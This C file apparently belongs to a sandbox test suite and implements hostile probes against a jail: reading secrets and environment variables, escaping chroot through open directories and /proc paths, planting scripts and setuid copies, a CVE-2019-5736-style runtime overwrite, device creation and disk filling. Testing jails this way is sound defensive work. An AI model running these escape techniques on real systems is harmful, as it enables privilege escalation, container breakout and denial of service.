/* Attacks on files: the caller's secrets, what runs later, what lies outside of the tree. */
#include "tests/jail/hostile/hostile.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static char text[8192];

const char *textf(const char *format, ...)
{
	va_list ap;

	va_start(ap, format);
	vsnprintf(text, sizeof(text), format, ap);
	va_end(ap);
	return text;
}

static const char *read_text(int fd)
{
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	int saved = errno;

	if (fd >= 0)
		close(fd);
	errno = saved;
	if (n <= 0)
		return NULL;
	text[n] = '\0';
	for (ssize_t i = 0; i < n; i++)
		if (!text[i] || text[i] == '\n')
			text[i] = ' ';
	return text;
}

const char *contents(const char *path)
{
	return read_text(open(path, O_RDONLY | O_CLOEXEC));
}

bool plant(const char *path)
{
	static const char words[] = "#!/bin/sh\necho planted\n";
	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0755);
	bool done = fd >= 0 && write(fd, words, sizeof(words) - 1) > 0;

	if (fd >= 0)
		close(fd);
	return done;
}

int next_pid(void **dir)
{
	struct dirent *e;

	if (!*dir)
		*dir = opendir("/proc");
	while (*dir && (e = readdir(*dir))) {
		int pid = atoi(e->d_name);
		if (pid > 0)
			return pid;
	}
	if (*dir)
		closedir(*dir);
	*dir = NULL;
	return 0;
}

const char *read_key(char **args)
{
	return contents(args[0]);
}

const char *read_environment(char **args)
{
	const char *value = getenv(args[0]);

	if (value)
		return textf("%s", value);
	/* A runtime may have cleared the list and left the strings. */
	const char *all = contents("/proc/self/environ");
	return all && strstr(all, args[0]) ? all : NULL;
}

/* args: a path below a directory that may be open. */
const char *open_descriptors(char **args)
{
	for (int fd = 3; fd < 1024; fd++) {
		char byte;
		if (pread(fd, &byte, 1, 0) == 1)
			return read_text(fd);
		int below = openat(fd, args[0], O_RDONLY | O_CLOEXEC);
		if (below >= 0)
			return read_text(below);
	}
	errno = 0;
	return NULL;
}

static const char *from_above(const char *path)
{
	char up[4096];
	const char *got = contents(path);

	if (got)
		return got;
	strcpy(up, "..");
	for (int i = 0; i < 40; i++)
		strcat(up, "/..");
	strncat(up, path, sizeof(up) - strlen(up) - 1);
	return contents(up);
}

/* The old way out of a chroot: be root of something, keep a directory open, change the root below it. */
static const char *chroot_and_back(const char *path)
{
	char name[] = "/tmp/hostile-XXXXXX";

	if (!become_root(CLONE_NEWNS) || !mkdtemp(name))
		return NULL;
	int top = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	const char *got = NULL;
	if (chroot(name) == 0 && fchdir(top) == 0) {
		for (int i = 0; i < 40; i++)
			if (chdir("..") < 0)
				break;
		if (chroot(".") == 0)
			got = contents(path);
	}
	if (fchdir(top) == 0)
		(void)rmdir(name + 1);
	close(top);
	return got;
}

const char *leave_the_root(char **args)
{
	const char *got = from_above(args[0]);
	void *dir = NULL;

	for (int pid; !got && (pid = next_pid(&dir));) {
		char path[4096];
		snprintf(path, sizeof(path), "/proc/%d/root%s", pid, args[0]);
		got = contents(path);
		if (!got) {
			snprintf(path, sizeof(path), "/proc/%d/cwd/../../../../../..%s", pid, args[0]);
			got = contents(path);
		}
	}
	return got ? got : chroot_and_back(args[0]);
}

const char *append_to_profile(char **args)
{
	return plant(args[0]) ? "tried" : NULL;
}

const char *plant_hook(char **args)
{
	return plant(args[0]) ? "tried" : NULL;
}

/* args: a directory outside. A link to it is in the tree already; we make one more in every place we can, and
 * go through them. */
const char *swap_symlink(char **args)
{
	static const char *const places[] = {"./ours", "/tmp/ours"};
	bool any = plant("./link/planted");

	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		char path[256];
		snprintf(path, sizeof(path), "%s/planted", places[i]);
		if (mkdir(places[i], 0755) == 0 && rmdir(places[i]) == 0 && symlink(args[0], places[i]) == 0)
			any = plant(path) || any;
	}
	return any ? "tried" : NULL;
}

/* The program as a file of ours that gives its runner our rights. */
static bool leave_setuid(const char *path)
{
	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	int to = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	char chunk[65536];
	ssize_t n;

	while (from >= 0 && to >= 0 && (n = read(from, chunk, sizeof(chunk))) > 0)
		if (write(to, chunk, (size_t)n) != n)
			break;
	bool done = to >= 0 && (fchmod(to, 06755) == 0 || fchmod(to, 04755) == 0 || fchmod(to, 02755) == 0);
	if (from >= 0)
		close(from);
	if (to >= 0)
		close(to);
	return done;
}

/* args: a setuid program of root's, and a file that root alone may read. */
const char *use_setuid(char **args)
{
	static const char *const places[] = {"./left-setuid", "/tmp/left-setuid", "/var/tmp/left-setuid"};
	int p[2];

	if (pipe2(p, O_CLOEXEC) == 0) {
		pid_t pid = fork();
		if (pid == 0) {
			dup2(p[1], 1);
			execl(args[0], args[0], "read-as-owner", args[1], (char *)NULL);
			_exit(1);
		}
		close(p[1]);
		const char *got = read_text(p[0]);
		waitpid(pid, NULL, 0);
		if (got)
			return got;
	}
	bool any = false;
	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++)
		any = leave_setuid(places[i]) || any;
	return any ? "tried" : NULL;
}

int read_as_owner(char **args)
{
	const char *got = contents(args[0]);

	if (got)
		fputs(got, stdout);
	return got ? 0 : 1;
}

/* As in CVE-2019-5736: get hold of the programs that run around us, and write to them once nobody runs them.
 * args: where the runtime lies, for those who can just replace it. */
const char *overwrite_runtime(char **args)
{
	int files[64], n = 0, ready[2];
	void *dir = NULL;
	char path[64], byte;
	struct stat own, st;

	if (stat("/proc/self/exe", &own) < 0 || pipe2(ready, O_CLOEXEC) < 0)
		return NULL;
	for (int pid; (pid = next_pid(&dir)) && n < 62;) {
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0 && fstat(fd, &st) == 0 && (st.st_ino != own.st_ino || st.st_dev != own.st_dev))
			files[n++] = fd;
		else if (fd >= 0)
			close(fd);
	}
	files[n] = open(args[0], O_PATH | O_CLOEXEC);
	n += files[n] >= 0;
	errno = 0;
	if (n == 0)
		return NULL;
	if (fork() == 0) {
		setsid();
		for (int i = 0; i < 3; i++)
			close(i);
		(void)!write(ready[1], "", 1);
		for (int tries = 0; tries < 100; tries++) {
			for (int i = 0; i < n; i++) {
				snprintf(path, sizeof(path), "/proc/self/fd/%d", files[i]);
				int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
				if (fd >= 0 && write(fd, "overwritten", 11) == 11)
					_exit(0);
			}
			usleep(10000);
		}
		_exit(0);
	}
	(void)!read(ready[0], &byte, 1);
	return "tried";
}

/* args: a device node in the tree. */
const char *use_device(char **args)
{
	static const char *const places[] = {"./made", "/tmp/made", "/dev/made", "/dev/shm/made"};
	char byte = 1;
	int fd = open(args[0], O_RDONLY | O_CLOEXEC);

	if (fd >= 0 && read(fd, &byte, 1) == 1 && byte == 0)
		return "a device of the tree's";
	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		if (mknod(places[i], S_IFCHR | 0666, makedev(1, 5)) < 0)
			continue;
		fd = open(places[i], O_RDONLY | O_CLOEXEC);
		bool works = fd >= 0 && read(fd, &byte, 1) == 1 && byte == 0;
		unlink(places[i]);
		if (works)
			return "a device made";
	}
	return NULL;
}

/* args: MiB in all that are too much. */
const char *fill_disk(char **args)
{
	static const char *const places[] = {".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/", "/dev"};
	enum { MIB = 1 << 20, EACH = 64 };
	char *block = calloc(1, MIB), path[512];
	int files[8], limit = atoi(args[0]), total = 0;
	const char *home = getenv("HOME");

	for (size_t i = 0; i < 8; i++) {
		snprintf(path, sizeof(path), "%s/fill", i == 7 ? home ? home : "/root" : places[i]);
		files[i] = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
		for (int k = 0; files[i] >= 0 && k < EACH && write(files[i], block, MIB) == MIB; k++)
			total++;
		(void)unlink(path);
	}
	free(block);
	return total >= limit ? textf("%d MiB written", total) : NULL;
}
